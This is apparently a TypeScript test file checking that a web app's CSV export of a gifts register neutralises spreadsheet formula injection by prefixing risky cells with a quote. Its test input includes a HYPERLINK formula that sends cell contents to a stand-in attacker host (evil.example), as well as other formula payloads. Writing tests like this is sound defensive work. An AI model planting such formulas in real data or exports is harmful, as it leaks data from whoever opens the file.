/**
 * CSV exports are safe to open in a spreadsheet (issue 17, OWASP CSV injection): text someone typed
 * that starts with = + - @ is exported with a leading ' so Excel shows it rather than running it
 * (negative numbers stay numbers: src/web/csv.test.ts). One function (src/web/csv.ts toCsv) writes every CSV; src/web/csv.test.ts
 * checks nothing else does.
 */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import { demo, startTestApp, type TestApp } from '../helpers/app.ts';
import { DEMO_PASSWORD } from '../../src/demo/seed.ts';

describe('CSV exports', () => {
  let t: TestApp;
  before(async () => {
    t = await startTestApp();
    await t.services.auth.createAccount(null, {
      email: 'rita.registers@harbour.example',
      displayName: 'Rita Registers',
      password: DEMO_PASSWORD,
      roles: ['registers_officer'],
      staffId: null,
    });
  });
  after(() => t.close());

  test('a gift whose giver, description and reason start with = @ - is exported as text', async () => {
    const helen = await t.signIn(demo.serviceManager);
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")';
    const res = await helen.submit('/registers/gifts/new', '/registers/gifts', {
      kind: 'gift',
      'offeredOn-day': '1',
      'offeredOn-month': '4',
      'offeredOn-year': '2026',
      description: '@SUM(1+1)',
      offeredBy: formula,
      giverType: 'organisation',
      value: '120',
      response: 'refused',
      reason: '-1+1',
    });
    assert.equal(res.statusCode, 303);
    const csv = await (await t.signIn('rita.registers@harbour.example')).get('/registers/reports/gifts.csv');
    assert.equal(csv.statusCode, 200);
    const rows = parse(csv.body) as string[][];
    const row = rows.find((r) => r.includes(`'${formula}`));
    assert.ok(row, `the giver is neutralised: ${csv.body}`);
    assert.ok(row.includes("'@SUM(1+1)") && row.includes("'-1+1"));
    assert.ok(
      !rows.flat().some((cell) => /^[=+@]/.test(cell) || /^-(?!\d+(\.\d+)?$)/.test(cell)),
      'no cell starts a formula',
    );
    assert.ok(row.includes('£120'), `the value is as before: ${row.join(' | ')}`);
  });
});
